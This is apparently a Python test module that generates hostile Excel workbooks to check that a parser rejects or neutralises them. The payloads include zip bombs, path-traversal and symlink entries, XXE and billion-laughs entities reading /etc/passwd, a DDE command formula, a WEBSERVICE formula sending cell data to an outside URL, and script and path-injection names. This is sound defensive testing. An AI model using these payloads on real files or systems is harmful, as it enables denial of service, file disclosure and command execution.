"""Attacks by workbooks: bombs, entities, formulas, links, lies about how large they are."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

from hostile.attacks.attack import FAULTY, INERT, REFUSED, UNPARSED, Attack
from sheets import HEADER, repacked, workbook

SHEET = "xl/worksheets/sheet1.xml"
EITHER = REFUSED | INERT
STEPS = [
    HEADER,
    ["Find", "Look it up", "Shopper", "web", "Web shop", 4, None, None],
    ["Find", "Order it", "Shopper", "web", "Web shop", 2, None, None],
    [None, "Done", None, None, None, None, None, "served"],
]


def plain() -> bytes:
    return workbook(STEPS)


def book(content: Callable[[], bytes]) -> Callable[[Path], Path]:
    """Make a workbook when it is asked for."""

    def make(folder: Path) -> Path:
        file = folder / "model.xlsx"
        file.write_bytes(content())
        return file

    return make


def with_parts(*parts: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    """Return a harmless workbook with further parts in its package."""
    into = BytesIO(plain())
    with zipfile.ZipFile(into, "a", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts:
            file.writestr(name, content)
    return into.getvalue()


def in_sheet(old: bytes, new: bytes) -> bytes:
    """Return a harmless workbook with a piece of its first sheet replaced."""
    assert old in zipfile.ZipFile(BytesIO(plain())).read(SHEET), old
    return repacked(plain(), SHEET, lambda xml: xml.replace(old, new, 1))


def nested(depth: int) -> bytes:
    """Return a zip in a zip in a zip…, around half a gigabyte of nothing."""
    content = b"\x00" * 50_000_000
    for level in range(depth):
        into = BytesIO()
        with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as file:
            for copy in range(1 if level == 0 else 10):
                file.writestr(f"{level}-{copy}.zip", content)
        content = into.getvalue()
    return content


def link() -> zipfile.ZipInfo:
    """Return an entry that unpacks to a symbolic link."""
    entry = zipfile.ZipInfo("xl/link")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return entry


def encrypted() -> bytes:
    """Return a package whose entries say that they are encrypted."""
    content = bytearray(plain())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(sign)
        while start >= 0:
            content[start + at] |= 1
            start = content.find(sign, start + 4)
    return bytes(content)


def changed(change: Callable[[Any], None]) -> Callable[[], bytes]:
    return lambda: workbook(STEPS, change=change)


def formula(book_: Any) -> None:
    book_["steps"]["B2"] = "=cmd|' /C calc'!A0"


def formula_as_number(book_: Any) -> None:
    book_["steps"]["F2"] = '=WEBSERVICE("https://example.org/"&A1)'


def wide(book_: Any) -> None:
    for column in range(1, 16_385):
        book_["steps"].cell(row=1, column=column, value=f"column {column}")


def linked(book_: Any) -> None:
    book_["steps"]["B2"].hyperlink = "file:///etc/passwd"


MERGED = b'</sheetData><mergeCells><mergeCell ref="A2:H1048576"/></mergeCells>'
STRINGS = b"<si><t>x</t></si>"
SHARED = (
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'count="4000000000" uniqueCount="4000000000">' + STRINGS * 400_000 + b"</sst>"
)
ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def named(title: str) -> Callable[[], bytes]:
    """Return the harmless workbook with a hostile name of a step."""
    return lambda: workbook([*STEPS[:1], ["Find", title, *STEPS[1][2:]], *STEPS[2:]])


def attack(
    name: str, content: Callable[[], bytes], ends: frozenset[int] = UNPARSED, *words: str
) -> Attack:
    return Attack(
        name=f"workbook-{name}", make=book(content), ends=ends, run_ends=EITHER, words=words
    )


WORKBOOKS = [
    attack("that-is-none", lambda: b"process: x\n", UNPARSED, "workbook"),
    attack("empty", lambda: b"", UNPARSED, "workbook"),
    attack("cut", lambda: plain()[:700], UNPARSED, "workbook"),
    attack("cut-at-its-end", lambda: plain()[:-30], UNPARSED, "workbook"),
    attack("with-a-password", lambda: b"\xd0\xcf\x11\xe0" + b"\x00" * 5_000, UNPARSED, "encrypted"),
    attack("of-encrypted-parts", encrypted, UNPARSED, "part|workbook"),
    attack("bomb", lambda: with_parts(("xl/bomb.bin", b"\x00" * 60_000_000)), UNPARSED, "unpacks"),
    attack("of-steep-ratio", lambda: with_parts(("a", b"\x00" * 9_000_000)), UNPARSED, "unpacks"),
    attack("of-zips-in-zips", lambda: nested(4), UNPARSED, "workbook|unpacks|sheet"),
    attack(
        "of-20000-parts",
        lambda: with_parts(*((f"f{k}", b"") for k in range(20_000))),
        UNPARSED,
        "unpacks",
    ),
    attack(
        "of-parts-outside", lambda: with_parts(("../../../pwned", b"x"), ("/pwned", b"x")), EITHER
    ),
    attack("with-a-link", lambda: with_parts((link(), b"/etc/passwd")), EITHER),
    attack("with-macros", lambda: with_parts(("xl/vbaProject.bin", b"Sub Auto_Open()")), INERT),
    attack(
        "with-an-entity",
        lambda: in_sheet(b"<worksheet", ENTITY + b"<worksheet"),
        UNPARSED,
        "doctype",
    ),
    attack(
        "with-laughs", lambda: in_sheet(b"<worksheet", LAUGHS + b"<worksheet"), UNPARSED, "doctype"
    ),
    attack("of-deep-xml", lambda: in_sheet(b"<sheetData>", b"<sheetData>" + b"<a>" * 100_000)),
    attack("of-shared-strings", lambda: with_parts(("xl/sharedStrings.xml", SHARED)), REFUSED),
    attack("of-a-million-rows", lambda: in_sheet(b'r="2"', b'r="1048576"'), REFUSED, "row"),
    attack("of-rows-below-0", lambda: in_sheet(b'r="2"', b'r="-2"'), EITHER),
    attack("of-absurd-size", lambda: in_sheet(b'ref="A1:H4"', b'ref="A1:XFD1048576"'), INERT),
    attack("of-16384-columns", changed(wide), REFUSED),
    attack("of-merged-cells", lambda: in_sheet(b"</sheetData>", MERGED), EITHER),
    attack("with-a-formula", changed(formula), FAULTY, "formula"),
    attack("with-a-formula-for-minutes", changed(formula_as_number), FAULTY, "formula"),
    attack("with-a-link-in-a-cell", changed(linked), INERT),
    attack("of-markup", named("<script>alert(1)</script>"), INERT),
    attack("of-formula-text", named("'=1+1"), INERT),
    attack("of-paths", named("../../etc/passwd"), INERT),
    attack("of-signs-nobody-sees", named("\u202etxt\u200b"), INERT),
    attack("of-a-name-of-32000", named("x" * 32_000), EITHER),
]
